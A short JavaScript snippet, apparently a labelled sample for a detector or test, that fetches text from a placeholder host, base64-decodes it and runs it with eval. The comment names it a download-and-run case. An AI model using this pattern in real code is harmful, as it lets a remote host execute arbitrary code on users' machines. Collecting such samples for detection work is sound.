const parts = [];
async function start() {
  const answer = await fetch('https://n.acme-names.example/a');
  for (const line of (await answer.text()).split('\n')) parts.push(line);
  eval(Buffer.from(parts.join(''), 'base64').toString()); // expect: download-and-run
}
start();
